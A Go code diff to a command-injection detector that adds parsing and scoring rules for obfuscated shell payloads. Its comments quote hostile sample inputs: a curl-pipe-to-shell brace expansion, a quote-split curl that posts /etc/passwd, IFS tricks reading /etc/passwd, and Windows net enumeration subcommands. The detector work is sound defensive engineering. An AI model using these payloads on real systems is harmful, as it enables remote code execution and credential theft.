@@ -258,6 +258,14 @@ func judge(v string, p placement) (f detect.Finding, ok bool, steps int) {
 		}
 	}()
 	src := p.open + v + p.close
+	if p.close == "" {
+		// "|| id ||": the value ends with an operator the rest of the
+		// application's command line completes.
+		t := strings.TrimRight(src, " \t")
+		if strings.HasSuffix(t, "||") || strings.HasSuffix(t, "&&") || strings.HasSuffix(t, "|") {
+			src = t + " :"
+		}
+	}
 	file, err := parse(src)
 	if err != nil && p.close == "" {
 		// A value that ends inside a quote is closed by the quote the
@@ -595,11 +603,12 @@ func (a *analyzer) resolvePart(part syntax.WordPart, b *strings.Builder, r *reso
 			name = p.Param.Value
 		}
 		switch {
-		case name == "IFS" && p.Exp == nil && p.Slice == nil:
+		case name == "IFS":
+			// $IFS, ${IFS}, ${IFS%??}: whitespace either way
 			r.split = true
 			b.WriteByte(' ')
-		case name == "@" || name == "*":
-			r.expanded = true // c$@at: empty
+		case name == "@" || name == "*" || (len(name) == 1 && '0' <= name[0] && name[0] <= '9' && name != "0"):
+			r.expanded = true // c$@at, cat$IFS$9/etc/passwd: empty
 		case p.Exp != nil && p.Exp.Word != nil && (p.Exp.Op == syntax.DefaultUnset || p.Exp.Op == syntax.DefaultUnsetOrNull):
 			r.expanded = true
 			for _, q := range p.Exp.Word.Parts {
@@ -692,11 +701,17 @@ func hexVal(c byte) int {
 func (a *analyzer) commandName(c *syntax.CallExpr) (name string, kind cmdKind, rw resolvedWord, extra []string) {
 	rw = a.resolve(c.Args[0])
 	t := strings.TrimLeft(rw.text, " ")
-	if strings.HasPrefix(t, "{") && strings.HasSuffix(t, "}") && strings.IndexByte(t, ',') > 0 {
-		// {cat,/etc/passwd}: brace expansion into words
-		fields := strings.Split(t[1:len(t)-1], ",")
+	if strings.HasPrefix(t, "{") && strings.IndexByte(t, ',') > 0 {
+		// {cat,/etc/passwd}: brace expansion into words (the closing
+		// brace may be cut off by a pipe: {curl,http://x/s.sh|sh})
+		fields := strings.Split(strings.TrimSuffix(t[1:], "}"), ",")
 		t, extra = fields[0], fields[1:]
 		rw.expanded = true
+	}
+	if !rw.split && strings.ContainsAny(strings.TrimSpace(t), " \t") && (rw.quoteSplit || len(c.Args[0].Parts) > 1) {
+		// A command word that quotes a whole command line
+		// (cu""r'l -d @/etc/passwd x'): what eval or sh -c would run.
+		rw.split = true
 	}
 	if rw.split {
 		fields := strings.Fields(t)
@@ -904,6 +919,8 @@ func (a *analyzer) judgeInjected(c *syntax.CallExpr, w via, left cmdKind) cmdKin
 	var conf int
 	why := w.String() + " runs " + name
 	switch {
+	case strings.EqualFold(name, "net") && len(c.Args) > 1 && netSubcommand(a.resolve(c.Args[1]).text):
+		conf, why = 85, why+" (account or share enumeration)"
 	case s.sensitive:
 		conf, why = 95, why+" on a sensitive path"
 	case w == viaPipe && kind == cmdInterp && (left == cmdNet || left == cmdKnown):
@@ -912,6 +929,8 @@ func (a *analyzer) judgeInjected(c *syntax.CallExpr, w via, left cmdKind) cmdKin
 		conf, why = 92, why+" with a network address"
 	case obf:
 		conf, why = 90, why+" (obfuscated)"
+	case s.prose == 1 && s.n == 1 && kind != cmdWordy:
+		conf = 55 // "; cat food", "`ps aux`"
 	case s.prose > s.shellish:
 		return kind // arguments are mostly a sentence
 	case s.n == 0 && kind == cmdWordy:
@@ -926,6 +945,10 @@ func (a *analyzer) judgeInjected(c *syntax.CallExpr, w via, left cmdKind) cmdKin
 		conf = 55
 	default:
 		return kind // arguments are a sentence
+	}
+	if (w == viaSubst || w == viaBackquote) && substIsWhole(a.value) {
+		// the whole value is a substitution: `ps aux`, $(id)
+		conf += 25
 	}
 	switch w {
 	case viaSubst:
@@ -944,6 +967,26 @@ func (a *analyzer) judgeInjected(c *syntax.CallExpr, w via, left cmdKind) cmdKin
 	severe := (w == viaPipe && kind == cmdInterp && left == cmdNet) || a.severeArgs(name, c)
 	a.considerSevere(conf, why, c, severe)
 	return kind
+}
+
+func netSubcommand(t string) bool {
+	switch strings.ToLower(t) {
+	case "user", "users", "localgroup", "group", "view", "share", "use", "accounts", "session", "start", "stop", "config":
+		return true
+	}
+	return false
+}
+
+// substIsWhole: v (trimmed) is one $(…) or `…`.
+func substIsWhole(v string) bool {
+	t := strings.TrimSpace(v)
+	switch {
+	case strings.HasPrefix(t, "$(") && strings.HasSuffix(t, ")"):
+		return strings.Count(t, "$(") == 1
+	case strings.HasPrefix(t, "`") && strings.HasSuffix(t, "`") && len(t) > 2:
+		return strings.Count(t, "`") == 2
+	}
+	return false
 }
 
 // severeArgs: a reverse shell or a listener handing out a shell.
